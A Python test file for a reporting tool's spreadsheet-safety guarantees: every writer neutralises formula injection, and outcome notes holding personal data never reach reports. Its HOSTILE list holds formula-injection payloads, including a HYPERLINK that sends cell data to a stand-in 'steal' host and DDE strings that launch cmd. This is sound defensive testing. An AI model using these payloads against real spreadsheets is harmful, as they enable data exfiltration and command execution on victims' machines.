"""Spreadsheet safety: text a spreadsheet would run as a formula is neutralised by every writer, and outcome
notes — free text that may hold personal data — never reach any report.

Where could an outcome note appear? Nowhere, by design: reports count outcome codes, and notes are shown only
by ``sharelog outcomes show --notes`` and subject access (docs/outcomes.md). So the note is tested twice over:
a note carrying a formula and a marker is recorded, every report is written in every format, and neither is
found in any file; and each writer is fed the same hostile strings directly and must neutralise them.
"""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, select

from sharelog.ledger import ledger_session
from sharelog.ledger.models import Disclosure
from sharelog.reports import (
    FORMATS,
    Sheet,
    SheetRow,
    build_monthly_report,
    build_shares_register,
    html_table,
    neutralise,
    write_monthly_charts,
    write_monthly_report,
    write_shares_register,
)
from sharelog.reports._formats import write_csv, write_json
from sharelog.reports._workbook import write_workbook

from ..worlds import MONTHS, add_outcome_event, build_golden_ledger, migrated

HOSTILE = [
    '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Home Office", "c", "ho-dfe-2019-update v1.0", "2019", "", "'quoted", "a=b"]
)
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


def _xlsx_texts(path: Path) -> list[object]:
    workbook = load_workbook(path)
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                values.append(cell.value)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), f"{name} holds a formula"
    return values


def _all_texts(path: Path) -> list[str]:
    """Every text cell a file holds, in whichever format it is."""
    if path.suffix == ".xlsx":
        return [v for v in _xlsx_texts(path) if isinstance(v, str)]
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as handle:
            return [cell for row in csv.reader(handle) for cell in row]
    if path.suffix == ".json":
        texts: list[str] = []

        def walk(value: object) -> None:
            if isinstance(value, dict):
                for item in value.values():
                    walk(item)
            elif isinstance(value, list):
                for item in value:
                    walk(item)
            elif isinstance(value, str):
                texts.append(value)

        walk(json.loads(path.read_text(encoding="utf-8")))
        return texts
    raise AssertionError(path)


@pytest.mark.parametrize("title", HOSTILE[:4])
def test_a_hostile_agreement_title_is_neutralised_in_every_report(
    ledger_engine: Engine, tmp_path: Path, title: str
) -> None:
    migrated(ledger_engine)
    with ledger_session(ledger_engine) as session:
        build_golden_ledger(session, title=title)
        register = build_shares_register(session, months=MONTHS)
        report = build_monthly_report(session, months=MONTHS)
    for fmt in FORMATS:
        written = [
            write_shares_register(register, tmp_path / f"shares.{fmt}"),
            write_monthly_report(report, tmp_path / f"monthly.{fmt}"),
        ]
        for path in written:
            if fmt == "html":
                page = path.read_text(encoding="utf-8")
                assert (
                    "&#x27;" + title.replace("&", "&amp;").replace('"', "&quot;").replace("'", "&#x27;")
                ) in page
                continue
            if fmt == "csv" and path.name.startswith("monthly"):
                continue  # the CSV holds the Monthly sheet, which names agreements by id only
            texts = [t for t in _all_texts(path) if title in t]
            assert texts, f"{path.name}: the title should appear"
            assert all(t.startswith("'") for t in texts if t.lstrip("'").startswith(title)), path.name


def test_outcome_notes_never_reach_a_report(golden_engine: Engine, tmp_path: Path) -> None:
    marker = "NOTE-MARKER-4F2A"
    with ledger_session(golden_engine) as session:
        disclosure = session.execute(select(Disclosure).order_by(Disclosure.id)).scalars().first()
        assert disclosure is not None
        add_outcome_event(
            session, disclosure, "use", "contact_attempt", note=f'=HYPERLINK("http://x.invalid","{marker}")'
        )
        add_outcome_event(
            session, disclosure, "intervention", "letter", note=f"-{marker} Mrs H., 12 Acacia Avenue"
        )
    written: list[Path] = []
    now = datetime(2019, 7, 1, tzinfo=UTC)
    with ledger_session(golden_engine) as session:
        for mode in ("publish", "internal"):
            report = build_monthly_report(session, months=MONTHS, sdc=mode, now=now)
            register = build_shares_register(session, months=MONTHS, sdc=mode, now=now)
            for fmt in FORMATS:
                written.append(write_monthly_report(report, tmp_path / f"monthly-{mode}.{fmt}"))
                written.append(write_shares_register(register, tmp_path / f"shares-{mode}.{fmt}"))
            written.extend(write_monthly_charts(report, tmp_path / f"charts-{mode}"))
    for path in written:
        if path.suffix == ".xlsx":
            with zipfile.ZipFile(path) as archive:
                content = b"".join(archive.read(name) for name in archive.namelist())
        else:
            content = path.read_bytes()
        assert marker.encode() not in content, path.name
        assert b"Acacia" not in content and b"HYPERLINK" not in content, path.name


def _hostile_sheet() -> Sheet:
    return Sheet(
        name="Hostile",
        title=HOSTILE[0],
        subtitle=(HOSTILE[1],),
        header=("Measure", HOSTILE[2]),
        rows=(SheetRow((HOSTILE[3],), heading=True), SheetRow((HOSTILE[4], 12)), SheetRow((HOSTILE[5], "c"))),
    )


def test_the_workbook_writer_neutralises_every_text_cell(tmp_path: Path) -> None:
    path = write_workbook(
        [_hostile_sheet()], tmp_path / "h.xlsx", title=HOSTILE[6], created=datetime.now(UTC)
    )
    texts = [v for v in _xlsx_texts(path) if isinstance(v, str)]
    for text in HOSTILE[:6]:
        # a carriage return reads back as a line feed from openpyxl's own XML writer, and as itself when openpyxl
        # writes with lxml (installed with python-docx): either way the cell starts with the apostrophe
        assert "'" + text in texts or "'" + text.replace("\r", "\n") in texts
    assert 12 in _xlsx_texts(path)  # numbers stay numbers


def test_the_csv_writer_neutralises_every_text_cell(tmp_path: Path) -> None:
    texts = _all_texts(write_csv(_hostile_sheet(), tmp_path / "h.csv"))
    for text in HOSTILE[:6]:
        assert "'" + text in texts and text not in texts


def test_the_html_writer_neutralises_and_escapes(tmp_path: Path) -> None:
    page = html_table(_hostile_sheet())
    assert "<script" not in page and 'HYPERLINK("' not in page  # quotes escaped
    assert "&#x27;=HYPERLINK(&quot;http://example.invalid" in page
    assert "&#x27;@SUM(1+1)" in page


def test_the_json_writer_neutralises_every_text(tmp_path: Path) -> None:
    payload = {"title": HOSTILE[0], "rows": [{"category": HOSTILE[1], "value": 5}, [HOSTILE[2]]]}
    texts = _all_texts(write_json(payload, tmp_path / "h.json"))
    assert texts == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[2]]
